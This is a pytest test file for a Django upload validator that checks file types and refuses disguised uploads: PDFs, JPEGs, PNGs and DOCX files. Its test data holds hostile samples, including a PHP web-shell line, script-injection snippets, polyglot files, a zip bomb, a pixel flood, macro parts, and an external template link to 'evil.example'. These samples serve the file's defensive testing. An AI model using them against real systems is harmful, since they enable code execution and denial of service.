import io
import struct
import zipfile
import zlib
from contextlib import suppress

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.functional import Promise
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from desk_core import content_type
from desk_core.content_type import DOCX, JPEG, PDF, PNG, clean_name, sniff, verify

TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
PDF_BYTES = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def image(kind: str, size: tuple[int, int] = (64, 48), **options: object) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 50).convert("RGB").save(out, kind, **options)
    return out.getvalue()


def docx(parts: dict[str, bytes | str] | None = None, types: str = TYPES, **more: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("word/document.xml", "<w:document>درخواست</w:document>")
        for name, content in {**(parts or {}), **more}.items():
            archive.writestr(name, content)
    return out.getvalue()


def codes(data: bytes, name: str) -> list[str]:
    with pytest.raises(ValidationError) as caught:
        verify(io.BytesIO(data), name)
    assert all(isinstance(error.message, Promise) for error in caught.value.error_list)
    return [str(error.code) for error in caught.value.error_list]


@pytest.mark.parametrize(
    ("data", "name", "kind"),
    [
        (PDF_BYTES, "نامه.pdf", PDF),
        (image("JPEG"), "عکس.JPG", JPEG),
        (image("JPEG", progressive=True), "a.jpeg", JPEG),
        (image("PNG"), "a.b.png", PNG),
        (docx(), "درخواست‌ها.docx", DOCX),
    ],
)
def test_honest_files_are_accepted_and_left_at_their_beginning(data, name, kind):
    file = io.BytesIO(data)
    assert sniff(data[:4096], name) == kind
    assert verify(file, name) == kind
    assert file.tell() == 0
    assert verify(SimpleUploadedFile(name, data), name) == kind


@pytest.mark.parametrize("name", ["a.exe", "a.html", "a.svg", "a", "pdf", ".pdf", "a.pdf.exe", ""])
def test_other_endings_are_refused(name):
    with pytest.raises(ValidationError):
        sniff(PDF_BYTES, name)


@pytest.mark.parametrize("name", ["a.pdf", "a.jpg", "a.png"])
@pytest.mark.parametrize(
    "data",
    [
        b"<html><script>alert(1)</script></html>",
        b"MZ\x90\x00" + bytes(100),
        b"#!/bin/sh\n",
        b"GIF89a" + bytes(50),
        b"\x00" * 5000,
        b" %PDF-1.4 not at the beginning",
        b"<?php system($_GET[0]);",
        docx(),
    ],
)
def test_what_is_not_what_its_name_says_is_refused(data, name):
    assert codes(data, name) == ["mismatch"]


def test_each_type_is_refused_under_the_name_of_another():
    files = {"a.pdf": PDF_BYTES, "a.jpg": image("JPEG"), "a.png": image("PNG"), "a.docx": docx()}
    for name in files:
        for other, data in files.items():
            if other != name:
                assert codes(data, name) == ["mismatch"]


def test_an_empty_file_is_refused():
    assert codes(b"", "a.pdf") == ["empty"]


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.html", "<script>alert(1)</script>")
    return out.getvalue()


HTML = b"<html><script>alert(1)</script></html>"


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (image("JPEG") + zipped(), "a.jpg"),
        (image("PNG") + zipped(), "a.png"),
        (PDF_BYTES + zipped(), "a.pdf"),
        (PDF_BYTES + HTML, "a.pdf"),
        (PDF_BYTES[:9] + HTML + PDF_BYTES[9:], "a.pdf"),
        (image("PNG") + b"x", "a.png"),
        (image("PNG") + PDF_BYTES, "a.png"),
        (image("JPEG") + PDF_BYTES, "a.jpg"),
        (image("JPEG") + HTML, "a.jpg"),
        (image("JPEG", comment=b"<script>alert(1)</script>"), "a.jpg"),
        (b"PK\x03\x04" + docx(), "a.docx"),
        (PDF_BYTES + docx(), "a.docx"),
    ],
)
def test_two_files_in_one_are_refused(data, name):
    assert codes(data, name)[0] in ("disguised", "mismatch", "damaged")


def test_a_pdf_around_an_archive_is_refused():
    inside = zipped()
    # The archive's end mark carries the rest of the PDF as its comment.
    rest = b"\nendstream endobj\n%%EOF\n"
    inside = inside[:-2] + struct.pack("<H", len(rest)) + rest
    data = b"%PDF-1.4\n1 0 obj stream\n" + inside
    assert zipfile.is_zipfile(io.BytesIO(data))
    assert codes(data, "a.pdf") == ["disguised"]


@pytest.mark.parametrize("make", [lambda: image("JPEG", (300, 300)), lambda: image("PNG"), docx])
@pytest.mark.parametrize("part", [0.3, 0.6, 0.95])
def test_cut_files_are_refused(make, part):
    data = make()
    name = {b"\xff": "a.jpg", b"\x89": "a.png", b"P": "a.docx"}[data[:1]]
    assert codes(data[: int(len(data) * part)], name)


def test_a_cut_pdf_is_refused():
    assert codes(PDF_BYTES[:30], "a.pdf") == ["damaged"]


def png_claiming(width: int, height: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        whole = kind + body
        return struct.pack(">I", len(body)) + whole + struct.pack(">I", zlib.crc32(whole))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(bytes(100)))
        + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize("size", [(50_000, 50_000), (40_000, 1), (20_000, 20_000)])
def test_a_pixel_flood_is_refused_before_it_is_unpacked(size):
    assert codes(png_claiming(*size), "a.png") == ["pixels"]


def test_a_progressive_jpeg_of_endless_scans_is_refused():
    data = image("JPEG", progressive=True)
    start = data.rindex(b"\xff\xda")
    scan = data[start:-2]
    assert codes(data[:-2] + scan * 200 + data[-2:], "a.jpg") == ["pixels"]


def test_an_archive_that_is_no_document_is_refused():
    assert codes(zipped(), "a.docx") == ["not_docx"]


def test_a_document_that_unpacks_to_gigabytes_is_refused():
    bomb = docx({"word/media/a.bin": bytes(120 * 1024 * 1024)})
    assert len(bomb) < 200_000
    assert codes(bomb, "a.docx") == ["bomb"]


def test_a_document_whose_table_lies_about_a_size_is_refused():
    data = docx({"word/media/a.bin": bytes(3_000_000)})
    true = struct.pack("<I", 3_000_000)
    assert data.count(true) == 2
    assert codes(data.replace(true, struct.pack("<I", 10)), "a.docx") == ["damaged"]


def test_a_document_of_thousands_of_parts_is_refused():
    many = docx({f"word/media/{i}.xml": "x" for i in range(2001)})
    assert codes(many, "a.docx") == ["bomb"]


def test_parts_that_share_bytes_are_refused():
    data = docx({"word/media/a.bin": bytes(50_000), "word/media/b.bin": bytes(50_000)})
    end = data.index(b"PK\x01\x02")
    table = bytearray(data[end:])
    entries = [i for i in range(len(table)) if table[i : i + 4] == b"PK\x01\x02"]
    offset = slice(42, 46)
    a, b = entries[2], entries[3]
    first = table[a + offset.start : a + offset.stop]
    table[b + offset.start : b + offset.stop] = first
    assert codes(data[:end] + bytes(table), "a.docx")[0] in ("bomb", "damaged")


@pytest.mark.parametrize(
    "parts",
    [
        {"word/vbaProject.bin": b"macro"},
        {"word/activeX/activeX1.xml": "<ax/>"},
        {"word/styles.xml": '<!DOCTYPE x [<!ENTITY a "aa">]><x/>'},
        {
            "word/_rels/settings.xml.rels": '<Relationships><Relationship Id="1" Type="http://x/'
            'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
            "</Relationships>"
        },
    ],
)
def test_documents_that_act_are_refused(parts):
    assert codes(docx(parts), "a.docx") == ["active"]


def test_a_macro_document_renamed_is_refused():
    types = TYPES.replace(
        "vnd.openxmlformats-officedocument.wordprocessingml.document.main",
        "vnd.ms-word.document.macroEnabled.main",
    )
    assert codes(docx(types=types), "a.docx") == ["active"]


def test_a_link_in_a_document_is_no_harm():
    rels = (
        '<Relationship Id="1" Type="http://x/hyperlink" Target="https://example.ir" '
        'TargetMode="External"/><Relationship Id="2" Type="http://x/attachedTemplate" '
        'Target="Normal.dotm"/>'
    )
    assert verify(io.BytesIO(docx({"word/_rels/document.xml.rels": rels})), "a.docx") == DOCX


@pytest.mark.parametrize("name", ["../a.docx", "/etc/a", "a\\..\\b"])
def test_parts_that_climb_out_are_refused(name):
    assert codes(docx({name: "x"}), "a.docx") == ["damaged"]


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("C:\\fakepath\\نامه.pdf", "نامه.pdf"),
        ("../../a.pdf", "a.pdf"),
        (" می‌روم.pdf ", "می‌روم.pdf"),
    ],
)
def test_names_lose_their_folders(name, clean):
    assert clean_name(name) == clean


@pytest.mark.parametrize("name", ["a\0.pdf", "exe.\u202efdp.pdf", "a\n.pdf", "x" * 300 + ".pdf"])
def test_deceiving_names_are_refused(name):
    with pytest.raises(ValidationError) as caught:
        clean_name(name)
    assert caught.value.code == "name"


@given(st.binary(max_size=3000), st.sampled_from(["a.pdf", "a.jpg", "a.png", "a.docx"]), st.data())
def test_no_bytes_lead_to_any_other_error(data, name, draw):
    start = draw.draw(
        st.sampled_from([b"", b"%PDF-1.4", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"PK\x03\x04"])
    )
    with suppress(ValidationError):
        verify(io.BytesIO(start + data), name)


WHOLE = {"a.jpg": image("JPEG"), "a.png": image("PNG"), "a.docx": docx()}


@given(st.sampled_from(sorted(WHOLE)), st.data())
def test_no_damage_leads_to_any_other_error(name, draw):
    data = bytearray(WHOLE[name])
    for _ in range(draw.draw(st.integers(1, 5))):
        data[draw.draw(st.integers(0, len(data) - 1))] = draw.draw(st.integers(0, 255))
    with suppress(ValidationError):
        verify(io.BytesIO(bytes(data)), name)


def test_the_endings_offered_to_the_browser_are_those_accepted():
    assert {ending[1:] for ending in content_type.ACCEPT.split(",")} == set(content_type.BY_ENDING)
